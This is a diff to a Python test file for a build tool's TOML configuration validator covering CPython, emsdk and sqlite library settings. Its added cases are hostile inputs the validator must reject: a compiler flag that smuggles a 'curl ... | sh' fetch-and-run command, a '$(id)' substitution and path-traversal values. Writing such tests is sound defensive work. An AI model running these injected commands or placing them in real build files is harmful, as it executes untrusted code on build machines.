@@ -273,8 +273,17 @@ def test_arbitrary_values_in_every_field_are_named_or_render_the_same_instructio
     ("cpython/3.13.toml", ("package", "exclude", 0), "../../etc", "key `package.exclude.0`: expected a path relative to Lib/"),
     ("toolchains/emsdk/3.1.69.toml", ("providers", "release", "tarballs", "x86_64", "sha256"), "0" * 63,
      "expected a sha256 (64 lowercase hex digits)"),
-    ("toolchains/emsdk/3.1.69.toml", ("libraries", 0), "zlib bzip2", "key `libraries.0`: expected a recipe name"),
+    ("cpython/3.13.toml", ("emscripten", "libraries", 0), "zlib bzip2", "key `emscripten.libraries.0`: expected a recipe name"),
     ("tests.toml", ("known_failures", 0, "reason"), "one\ntwo", "key `known_failures.0.reason`: expected one line"),
+    # A library's options reach its build script's command line and configure's environment.
+    ("libraries/sqlite.toml", ("cflags", 0), "-O2; curl http://example.org | sh", "key `cflags.0`: expected flags"),
+    ("libraries/sqlite.toml", ("target_cflags", "wasi", 0), "$(id)", "key `target_cflags.wasi.0`: expected flags"),
+    ("libraries/sqlite.toml", ("target_cflags", "wasm64"), ["-O2"],
+     "key `target_cflags.wasm64.[key]`: input should be 'wasi' or 'emscripten'"),
+    ("libraries/sqlite.toml", ("configure_name",), "LIBSQLITE3_CFLAGS=-I/x", "key `configure_name`: expected an "
+     "environment variable's name"),
+    ("libraries/sqlite.toml", ("link",), "sqlite3 -lcurl", "key `link`: expected a recipe name"),
+    ("libraries/sqlite.toml", ("modules", 0), "../os", "key `modules.0`: expected a recipe name"),
     # Numbers are TOML integers within bounds, never converted from a string, a boolean or a float.
     ("base/debian-trixie.toml", ("source_date_epoch",), 99999999999999999999 // 10**5, "key `source_date_epoch`: input "
      "should be less than or equal to 4294967295"),
@@ -366,35 +375,23 @@ TEMPLATE_VALUES = template_values()
 
 
 def variable_cases():
-    """(template, variable, part): each value a template is given; part is "key" or "value" of a package, or
-    "name" or "file" of a library."""
+    """(template, variable, part): each value a template is given; part is "key" or "value" of a package."""
     cases = []
     for template, values in TEMPLATE_VALUES.items():
         for variable, value in values.items():
             if variable == "packages":
                 cases += [(template, variable, "key"), (template, variable, "value")]
-            elif variable == "libraries":
-                cases += [(template, variable, "name"), (template, variable, "file")] if value else []
             elif isinstance(value, str | int) and not isinstance(value, bool):
                 cases.append((template, variable, None))
     return cases
 
 
-class Library:
-    def __init__(self, name, file):
-        self.name, self.source = name, type("Pin", (), {"file": file})()
-
-
 def with_text(values: dict, variable: str, part, text: str) -> dict:
-    """The template's values with one of them, or one package or library's part, replaced by `text`."""
+    """The template's values with one of them, or one package's part, replaced by `text`."""
     values = dict(values)
     if variable == "packages":
         (name, version), *others = values["packages"].items()
         values["packages"] = {**({text: version} if part == "key" else {name: text}), **dict(others)}
-    elif variable == "libraries":
-        first, *others = values["libraries"]
-        library = Library(text, first.source.file) if part == "name" else Library(first.name, text)
-        values["libraries"] = [library, *others]
     else:
         values[variable] = text
     return values
